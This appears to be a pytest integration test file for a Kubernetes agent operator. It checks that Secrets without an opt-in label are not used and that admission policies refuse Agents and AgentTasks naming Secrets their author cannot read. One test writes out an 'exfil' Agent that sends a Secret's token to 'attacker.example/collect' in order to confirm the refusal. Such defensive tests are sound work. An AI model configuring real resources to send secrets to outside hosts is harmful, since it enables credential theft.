"""Secrets an Agent names, and attempts whose start is refused (issue #13, items 1, 4, 5).

Real control plane, the operator under the chart's RBAC, the admission policy that
checks a creator's own access to the Secrets an Agent names.
"""

from __future__ import annotations

import functools
import json
import time
from typing import Any

import localcluster
import pytest
from harness import (
    REPO,
    Kubectl,
    OperatorProcess,
    browser_agent,
    credential_secret,
    http_agent,
    phase_is,
    task,
    token_kubeconfig,
    wait_for,
)

pytestmark = pytest.mark.cluster
POLICY = REPO / "crds" / "agents.wallestars.io_agents-secretrefs-policy.yaml"
TASK_POLICY = REPO / "crds" / "agents.wallestars.io_agenttasks-secretrefs-policy.yaml"


def ready(kubectl: Kubectl, agent: str) -> dict[str, Any] | None:
    conds = (kubectl.json("get", "agent", agent).get("status") or {}).get("conditions") or []
    return next((c for c in conds if c["type"] == "Ready"), None)


def test_a_secret_without_the_opt_in_label_is_never_used(
    operator: OperatorProcess, function_url: str, kubectl: Kubectl
) -> None:
    """The Agent is not Ready, naming the Secret and the label; a task for it waits; the
    function never receives the Secret's value."""
    http_agent(kubectl, function_url)
    credential_secret(kubectl, "fn-auth", opt_in=False, authorization="Bearer stolen")
    cond = wait_for("Ready=False naming the Secret",
                    lambda: (c := ready(kubectl, "fn")) and c["status"] == "False" and c, timeout=60)  # fmt: skip
    assert cond["reason"] == "SecretRefused"
    assert f"Secret {kubectl.namespace}/fn-auth" in cond["message"]
    assert 'agents.wallestars.io/credential: "true"' in cond["message"]
    task(kubectl, "waits", "fn")
    st = wait_for("waiting", lambda: (s := phase_is(kubectl, "waits", "Queued")) and s, timeout=30)
    assert st["reason"] == "AgentUnhealthy", st
    # Opting in lets it run.
    credential_secret(kubectl, "fn-auth", authorization="Bearer test-function-token")
    st = wait_for(
        "Succeeded", lambda: phase_is(kubectl, "waits", "Succeeded", "Failed"), timeout=90
    )
    assert st["phase"] == "Succeeded"


def test_a_long_task_name_gets_valid_labels_and_names(
    operator: OperatorProcess, kubectl: Kubectl
) -> None:
    """A 253-character name whose 63rd character is a '-' (a label value cut there was
    refused by the API server, and the attempt waited for its timeout)."""
    from tests.integration.test_operator import progress_agent_command

    browser_agent(kubectl, progress_agent_command())
    name = ("a" * 62 + "-" + "b" * 61 + "." + "c" * 128)[:253]
    task(kubectl, name, "br")
    st = wait_for("Succeeded", lambda: phase_is(kubectl, name, "Succeeded", "Failed"), timeout=90)
    assert st["phase"] == "Succeeded", st
    [job] = kubectl.json("get", "jobs")["items"]
    assert job["metadata"]["labels"]["agents.wallestars.io/task"] == "a" * 62


def test_an_api_refusal_of_the_job_fails_the_attempt_with_the_api_servers_message(
    operator: OperatorProcess, kubectl: Kubectl
) -> None:
    """A Job the API server refuses (here: the namespace's quota) fails the attempt at
    once with the API server's message, instead of waiting for the attempt's timeout."""
    from tests.integration.test_operator import progress_agent_command

    kubectl.apply({"apiVersion": "v1", "kind": "ResourceQuota", "metadata": {"name": "no-jobs"},
                   "spec": {"hard": {"count/jobs.batch": "0"}}})  # fmt: skip
    wait_for("the quota to be counted",
             lambda: "count/jobs.batch" in json.dumps(kubectl.json("get", "resourcequota", "no-jobs").get("status") or {}),
             timeout=30)  # fmt: skip
    browser_agent(kubectl, progress_agent_command())
    t0 = time.monotonic()
    task(kubectl, "quota", "br", retries={"limit": 0})
    st = wait_for("Failed", lambda: phase_is(kubectl, "quota", "Failed", "Succeeded"), timeout=60)
    assert st["reason"] == "DispatchFailed", st
    assert "the API server refused the attempt's Job" in st["error"]["message"]
    assert "exceeded quota" in st["error"]["message"]
    assert time.monotonic() - t0 < 30


@pytest.fixture
def secret_refs_policy(cluster: localcluster.Cluster) -> None:
    """The chart's admission policy for Secret references (installed with the chart)."""
    Kubectl(cluster.kubeconfig)("apply", "-f", str(POLICY))


def test_the_api_server_refuses_an_agent_naming_a_secret_its_creator_may_not_read(
    secret_refs_policy: None, cluster: localcluster.Cluster, kubectl: Kubectl, tmp_path: Any
) -> None:
    ns = kubectl.namespace or ""
    credential_secret(kubectl, "prod-db", token="s3cr3t")
    kubectl("create", "serviceaccount", "agent-author")
    kubectl("create", "role", "agent-author", "--verb=get,list,create,update,patch",
            "--resource=agents.agents.wallestars.io")  # fmt: skip
    kubectl("create", "rolebinding", "agent-author", "--role=agent-author",
            f"--serviceaccount={ns}:agent-author")  # fmt: skip
    author = Kubectl(token_kubeconfig(cluster, tmp_path / "author", ns, "agent-author"), ns)
    agent = {"apiVersion": "agents.wallestars.io/v1alpha1", "kind": "Agent", "metadata": {"name": "exfil"},
             "spec": {"type": "cloud", "capabilities": ["api-test"], "cloud": {"provider": "http",
                      "http": {"url": "https://attacker.example/collect",
                               "authHeaderSecretRef": {"name": "prod-db", "key": "token"}}}}}  # fmt: skip

    def create() -> Any:
        return author.run("create", "-f", "-", input=json.dumps(agent), check=False)

    # The policy may take a moment to be loaded by the API server: wait for its refusal.
    out = wait_for("the policy's refusal",
                   lambda: (r := create()).returncode != 0 and "prod-db" in r.stderr and r, timeout=30)  # fmt: skip
    assert "spec.cloud.http.authHeaderSecretRef" in out.stderr, out.stderr
    assert "may not get" in out.stderr
    assert kubectl.run("get", "agent", "exfil", check=False).returncode != 0
    # Given read access to that one Secret, the same author may name it.
    kubectl("create", "role", "read-prod-db", "--verb=get", "--resource=secrets",
            "--resource-name=prod-db")  # fmt: skip
    kubectl("create", "rolebinding", "read-prod-db", "--role=read-prod-db",
            f"--serviceaccount={ns}:agent-author")  # fmt: skip
    ok = wait_for("accepted", lambda: (r := create()).returncode == 0 and r, timeout=30)
    assert "created" in ok.stdout


@pytest.fixture(scope="module")
def task_secret_refs_policy(cluster: localcluster.Cluster) -> None:
    """The admission policy for Secrets named in AgentTask payloads (with the CRDs)."""
    Kubectl(cluster.kubeconfig)("apply", "-f", str(TASK_POLICY))


def test_the_api_server_refuses_a_task_naming_a_secret_its_creator_may_not_read(
    task_secret_refs_policy: None, cluster: localcluster.Cluster, kubectl: Kubectl, tmp_path: Any
) -> None:
    """A password by reference (valueFrom) or a token (headersFrom) in a task's payload:
    only from a Secret its author may get, else refused with a message naming it."""
    ns = kubectl.namespace or ""
    credential_secret(kubectl, "prod-login", password="s3cr3t-login")
    kubectl("create", "serviceaccount", "task-author")
    kubectl("create", "role", "task-author", "--verb=get,list,create,update,patch",
            "--resource=agenttasks.agents.wallestars.io")  # fmt: skip
    kubectl("create", "rolebinding", "task-author", "--role=task-author",
            f"--serviceaccount={ns}:task-author")  # fmt: skip
    author = Kubectl(token_kubeconfig(cluster, tmp_path / "task-author", ns, "task-author"), ns)
    ref = {"secretKeyRef": {"name": "prod-login", "key": "password"}}
    tasks = {
        "fill": {"type": "e2e-test", "payload": {"url": "https://shop.example/", "steps": [
            {"action": "fill", "selector": "#pw", "valueFrom": ref}]}},
        "header": {"type": "api-test", "payload": {"requests": [
            {"url": "https://api.example/", "headersFrom": {"Authorization": ref}}]}},
    }  # fmt: skip

    def create(name: str) -> Any:
        task = {"apiVersion": "agents.wallestars.io/v1alpha1", "kind": "AgentTask",
                "metadata": {"name": f"exfil-{name}"}, "spec": {"agentRef": "x", **tasks[name]}}  # fmt: skip
        return author.run("create", "-f", "-", input=json.dumps(task), check=False)

    def refused(name: str) -> Any:
        r = create(name)
        return r if r.returncode != 0 and "prod-login" in r.stderr else None

    def accepted(name: str) -> Any:
        r = create(name)
        return r if r.returncode == 0 else None

    for name in tasks:
        out = wait_for(
            f"the policy's refusal of {name}", functools.partial(refused, name), timeout=30
        )
        assert "spec.payload names Secret prod-login" in out.stderr and "may not get" in out.stderr
    # A task without references is not the policy's business.
    plain = {"apiVersion": "agents.wallestars.io/v1alpha1", "kind": "AgentTask",
             "metadata": {"name": "plain"}, "spec": {"agentRef": "x", "type": "e2e-test",
             "payload": {"url": "https://shop.example/", "steps": [{"action": "click", "selector": "#a"}]}}}  # fmt: skip
    assert author.run("create", "-f", "-", input=json.dumps(plain), check=False).returncode == 0
    kubectl("create", "role", "read-prod-login", "--verb=get", "--resource=secrets",
            "--resource-name=prod-login")  # fmt: skip
    kubectl("create", "rolebinding", "read-prod-login", "--role=read-prod-login",
            f"--serviceaccount={ns}:task-author")  # fmt: skip
    for name in tasks:
        ok = wait_for("accepted", functools.partial(accepted, name), timeout=30)
        assert "created" in ok.stdout
